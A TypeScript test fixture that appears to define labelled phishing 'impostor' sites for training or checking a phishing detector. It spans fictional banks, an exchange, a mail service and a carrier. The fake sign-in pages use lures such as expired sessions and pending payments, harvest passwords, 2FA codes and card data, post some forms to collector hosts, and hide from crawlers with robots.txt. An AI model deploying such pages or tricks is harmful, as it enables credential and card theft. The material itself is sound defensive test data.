import type { LabelledSite } from '../../labelled-site.ts';
import { bootstrapDoor, hashedDoor, tableDoor } from '../doors.ts';
import { cardDoor, darkDoor, fieldsetDoor, mobileDoor, splitDoor } from '../more-doors.ts';
import { logoImage, plainText, sitesOfKind } from '../parts.ts';

const email = { label: 'Email', type: 'email', auto: 'username' };
const password = { label: 'Password', type: 'password', auto: 'current-password' };

const borrowed = sitesOfKind('impostor', 'on a free or borrowed host', [
  {
    brand: 'calder',
    host: 'calderbank-secure.herokuapp.com',
    foundBy: 'search',
    isClear: true,
    logo: 'none',
    reason: 'a copy of the sign-in of the bank on a platform for anyone',
    page: hashedDoor({
      language: 'en',
      title: 'Secure log on',
      logo: logoImage(220),
      heading: 'Your online session has expired',
      lead: 'Log on again to keep your Calder Bank account active.',
      fields: [{ label: 'Customer number' }, { label: 'Passcode', type: 'password' }],
      button: 'Continue',
    }),
  },
  {
    brand: 'qvx',
    host: 'trade-desk-0091.firebaseapp.com',
    entry: '/qvx/login',
    foundBy: 'report',
    logo: 'none',
    reason: 'the brand stands in the path only; a copy of the sign-in of the exchange',
    page: darkDoor({
      language: 'en',
      title: 'QVX | Log in',
      logo: logoImage(64),
      heading: 'Log in to QVX',
      fields: [email, password, { label: '2FA code', auto: 'one-time-code' }],
      button: 'Log in',
      foot: 'Check that you are visiting qvx.io',
    }),
  },
  {
    brand: 'lantern',
    host: 'lantern.webmail-quota.net',
    ageDays: 31,
    foundBy: 'certificate',
    isClear: true,
    logo: 'none',
    reason:
      'the brand is a subdomain of a name that has nothing to do with it; claims that the mailbox is full',
    page: fieldsetDoor({
      language: 'en',
      title: 'Lantern Mail quota',
      logo: logoImage(70),
      heading: 'Mailbox 98% full',
      lead: 'Confirm your Lantern account to get 5 GB more.',
      fields: [email, password],
      button: 'Upgrade my mailbox',
      foot: 'Lantern postmaster',
    }),
  },
  {
    brand: 'nordkette',
    host: 'imkerverein-suedhang.de',
    entry: '/wp-includes/fonts/nk/',
    ageDays: 3900,
    foundBy: 'report',
    logo: 'none',
    reason: 'a copy of the sign-in of the carrier in a folder of a broken-in site of beekeepers',
    page: bootstrapDoor({
      language: 'de',
      title: 'Sendung freigeben',
      logo: logoImage(300),
      heading: 'Ihre Sendung liegt bereit',
      lead: 'Melden Sie sich an, um einen neuen Zustelltermin zu wählen.',
      fields: [
        { label: 'E-Mail', type: 'email' },
        { label: 'Passwort', type: 'password' },
      ],
      button: 'Weiter',
      foot: 'Nord-Kette',
    }),
  },
]);

const postsElsewhere = sitesOfKind('impostor', 'form that posts elsewhere', [
  {
    brand: 'zuvia',
    host: 'area-clientes-zuvia.com',
    ageDays: 9,
    foundBy: 'certificate',
    isClear: true,
    logo: 'none',
    reason: 'a copy of the area of customers whose form sends everything to a collector on another name',
    page: ({ urlOf }) => ({
      body: splitDoor({
        language: 'pt',
        title: 'Área de cliente Zuvia',
        logo: logoImage(200),
        heading: 'Área de cliente',
        lead: 'A sua fatura de outubro está por pagar.',
        fields: [
          { label: 'Telemóvel', type: 'tel' },
          { label: 'Palavra-passe', type: 'password' },
        ],
        action: urlOf('formcatch-eu.com', '/c.php'),
        button: 'Entrar',
        foot: 'Zuvia Portugal',
      }),
    }),
  },
  {
    brand: 'brume',
    host: 'fleurs-de-brume-compte.com',
    ageDays: 3,
    foundBy: 'search',
    isClear: true,
    logo: 'small',
    reason: 'a copy of the account page that sends the card to a form service',
    page: ({ urlOf }) => ({
      body: tableDoor({
        language: 'fr',
        title: 'Votre compte',
        logo: logoImage(150),
        heading: 'Mettez à jour votre carte',
        lead: 'Votre commande Fleurs de Brume est en attente.',
        fields: [
          { label: 'Numéro de carte', auto: 'cc-number' },
          { label: 'Expiration', auto: 'cc-exp' },
          { label: 'Cryptogramme', auto: 'cc-csc' },
        ],
        action: urlOf('formcatch-eu.com', '/x9'),
        button: 'Valider',
      }),
    }),
  },
  {
    brand: 'calder',
    host: 'calder-bank-alerts.net',
    foundBy: 'report',
    isClear: true,
    logo: 'none',
    reason: 'a copy of the sign-in that posts to a messenger bot behind another host',
    page: ({ urlOf }) => ({
      body: mobileDoor({
        language: 'en',
        title: 'Calder Bank',
        logo: logoImage(180),
        heading: 'Was this you?',
        lead: 'A payment of £912.40 to J. Petrov is waiting. Log on to cancel it.',
        fields: [{ label: 'Customer number' }, { label: 'Passcode', type: 'password' }],
        action: urlOf('tg-relay-bot.net', '/send'),
        button: 'Cancel payment',
      }),
    }),
  },
]);

const hiddenByRobots = sitesOfKind('impostor', 'hidden by robots.txt', [
  {
    brand: 'qvx',
    host: 'qvx-wallets.com',
    ageDays: 5,
    foundBy: 'certificate',
    isClear: true,
    logo: 'none',
    reason: 'a copy of the sign-in of the exchange whose robots.txt turns crawlers away',
    page: darkDoor({
      language: 'en',
      title: 'QVX',
      logo: logoImage(80),
      heading: 'Welcome back',
      fields: [email, password],
      button: 'Log in',
    }),
    more: { '/robots.txt': plainText('User-agent: *\nDisallow: /\n') },
  },
  {
    brand: 'nordkette',
    host: 'meine-nordkette.com',
    foundBy: 'permutation',
    isClear: true,
    logo: 'none',
    reason: 'a copy of the sign-in of the carrier whose robots.txt turns crawlers away',
    page: cardDoor({
      language: 'de',
      title: 'Nord-Kette',
      logo: logoImage(300),
      heading: 'Anmeldung',
      fields: [
        { label: 'E-Mail', type: 'email' },
        { label: 'Passwort', type: 'password' },
      ],
      button: 'Anmelden',
    }),
    more: { '/robots.txt': plainText('User-agent: *\nDisallow: /\n') },
  },
]);

export const borrowedHosts: readonly LabelledSite[] = [...borrowed, ...postsElsewhere, ...hiddenByRobots];
